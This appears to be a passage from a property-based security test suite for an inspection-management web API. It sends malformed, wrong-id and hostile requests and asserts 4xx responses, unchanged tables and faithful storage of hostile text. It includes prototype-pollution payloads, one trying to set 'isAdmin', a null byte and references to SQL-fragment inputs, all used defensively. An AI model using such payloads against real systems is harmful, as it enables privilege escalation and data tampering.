        note: `GET ${list.path}?...`,
      })),
    );
    const paths = badPathIds.chain((id) =>
      fc.constantFrom<Probe>(
        { method: 'GET', path: `/recommendations/${id}`, as: 'admin', note: 'bad id' },
        { method: 'GET', path: `/inspections/${id}`, as: 'admin', note: 'bad id' },
        { method: 'GET', path: `/organisations/${id}`, as: 'admin', note: 'bad id' },
        { method: 'GET', path: `/recommendations/${id}/history`, as: 'admin', note: 'bad id' },
        { method: 'PATCH', path: `/inspections/${id}`, as: 'lead', body: { version: 1, title: 'x' }, note: 'bad id' },
        {
          method: 'POST',
          path: `/recommendations/${id}/transitions`,
          as: 'liaison',
          body: { action: 'submit_plan', version: 1 },
          note: 'bad id',
        },
      ),
    );
    const raw = fc
      .oneof(
        fc.constantFrom(
          '{',
          '{"a":',
          '[',
          'null',
          '"string"',
          '{"__proto__":{"polluted":"yes"}}',
          '\u0000',
          '{"email":"a@b.c","password":"x","__proto__":{"isAdmin":true}}',
        ),
        fc.string({ unit: 'binary', maxLength: 200 }),
      )
      .chain((body) =>
        fc.constantFrom(...ENDPOINTS).map((e): Probe => ({
          method: e.method,
          path: fill(e.path),
          as: 'admin',
          raw: body,
          note: `raw body to ${e.path}`,
        })),
      );
    const probe = fc.oneof(
      { weight: 12, arbitrary: fc.oneof(...perEndpoint) },
      { weight: 4, arbitrary: fc.oneof(...lists) },
      { weight: 1, arbitrary: paths },
      { weight: 1, arbitrary: raw },
      { weight: 2, arbitrary: importProbe(ids) },
      { weight: 5, arbitrary: formProbe(ids) },
    );
    return fc.sample(probe, { numRuns: count, seed: SEED });
  }

  it(`answers ${INVALID_REQUESTS} invalid requests with a 4xx and changes no row`, async () => {
    const started = Date.now();
    const probes = invalidProbes(INVALID_REQUESTS);
    const generatedMs = Date.now() - started;
    const before = await tableChecksum(db);
    const statuses = new Map<number, number>();
    const serverErrors: string[] = [];
    const accepted: string[] = [];
    await runAll(probes, async (probe) => {
      const status = await send(probe);
      statuses.set(status, (statuses.get(status) ?? 0) + 1);
      if (status >= 500)
        serverErrors.push(`${status} ${probe.note}: ${JSON.stringify(probe.body ?? probe.raw)?.slice(0, 300)}`);
      else if (status < 400)
        accepted.push(
          `${status} ${probe.method} ${probe.note}: ${probe.method === 'GET' ? probe.path.slice(0, 300) : JSON.stringify(probe.body)?.slice(0, 300)}`,
        );
    });
    const after = await tableChecksum(db);
    const kinds = probes.reduce<Record<string, number>>((acc, p) => {
      const kind = p.form ? 'web form' : p.csv ? 'CSV import' : p.method === 'GET' ? 'GET' : 'JSON write';
      return { ...acc, [kind]: (acc[kind] ?? 0) + 1 };
    }, {});
    console.info(
      `hostile-payloads: ${JSON.stringify({ seed: SEED, invalid: probes.length, kinds, generatedMs, sentMs: Date.now() - started - generatedMs, statuses: Object.fromEntries([...statuses].sort()) })}`,
    );
    expect(serverErrors).toEqual([]);
    expect(accepted).toEqual([]);
    expect(after).toEqual(before);
    // Nothing reached Object.prototype.
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    // Page renders make a web form probe dearer than a JSON one: about 4.5 minutes on the shared 2-core machine.
  }, 600_000);

  it(`stores ${VALID_HOSTILE_REQUESTS} valid requests carrying hostile text as text: no 5xx, and what is read back is what was sent`, async () => {
    const text = hostileString.filter((s) => s.trim() !== '' && s.length <= 200);
    const probes = fc.sample(
      fc.tuple(fc.constantFrom('organisation', 'inspection', 'comment'), text, fc.integer({ min: 0, max: 1e9 })),
      { numRuns: VALID_HOSTILE_REQUESTS, seed: SEED + 1 },
    );
    // Recommendations to close, one per comment, made in one go.
    const bulk = await api.createInspection(lead.token, {
      organisationId: ids.orgA,
      leadInspectorId: ids.lead,
      recommendations: Array.from({ length: VALID_HOSTILE_REQUESTS }, (_, i) => ({ reference: `C${i}` })),
    });
    const closable: { id: string; version: number }[] = [...bulk.recommendations];
    const serverErrors: string[] = [];
    const mangled: string[] = [];
    const statuses = new Map<number, number>();
    await runAll(probes, async ([what, value, n]) => {
      let response;
      let readBack: (body: { id: string }) => Promise<string | undefined>;
      if (what === 'organisation') {
        response = await api.adminApi.post('/organisations', { name: value, code: `H${n}` });
        readBack = async (body) => (await api.adminApi.get(`/organisations/${body.id}`)).body.name;
      } else if (what === 'inspection') {
        response = await lead.api.post('/inspections', {
          ...ENDPOINTS[5].valid(ids),
          title: value,
          recommendations: [{ reference: value.slice(0, 40), text: value }],
        });
        readBack = async (body) => (await api.adminApi.get(`/inspections/${body.id}`)).body.title;
      } else {
        const rec = closable.pop()!;
        response = await api.adminApi.post(`/recommendations/${rec.id}/transitions`, {
          action: 'close',
          version: rec.version,
          outcome: 'superseded',
          comment: value,
        });
        readBack = async () => (await api.adminApi.get(`/recommendations/${rec.id}`)).body.history.at(-1).comment;
      }
      statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1);
      if (response.status >= 500) serverErrors.push(`${response.status} ${what} ${JSON.stringify(value)}`);
      // Names and titles are trimmed on the way in; comments are kept as written.
      else if (response.status < 300 && (await readBack(response.body)) !== (what === 'comment' ? value : value.trim()))
        mangled.push(`${what} ${JSON.stringify(value)}`);
    });
    console.info(
      `hostile-payloads: ${JSON.stringify({ seed: SEED + 1, validHostile: probes.length, statuses: Object.fromEntries([...statuses].sort()) })}`,
    );
    expect(serverErrors).toEqual([]);
    expect(mangled).toEqual([]);
    // The tables the SQL fragments name are all still there.
    const { rows } = await db.query(`SELECT count(*)::int AS n FROM users`);
    expect(rows[0].n).toBeGreaterThan(0);
  }, 300_000);
});
